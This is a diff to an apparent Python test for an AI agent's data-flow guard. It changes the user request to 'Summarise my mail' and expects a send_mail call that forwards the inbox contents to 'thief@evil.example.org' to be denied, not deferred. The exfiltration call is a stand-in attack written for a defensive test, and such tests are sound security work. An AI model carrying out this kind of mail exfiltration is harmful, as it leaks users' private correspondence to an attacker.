@@ -215,14 +215,14 @@ async def test_a_long_result_does_not_hold_up_others(world: FlowWorld) -> None:
 async def test_a_long_argument_does_not_hold_up_others(world: FlowWorld, body: Any) -> None:
     """While it is found out where its values came from, the loop goes round."""
     let_time_pass(world)
-    await world.open("Summarise my mail and send that to my colleague")
+    await world.open("Summarise my mail")
     await world.run("read_mail", folder="inbox")
     call = asyncio.create_task(world.call("send_mail", to="thief@evil.example.org", body=body))
     turns = 0
     while not call.done():
         turns += 1
         await asyncio.sleep(0)
-    assert (await call).outcome is Outcome.DEFER
+    assert (await call).outcome is Outcome.DENY
     assert turns > 20
 
 
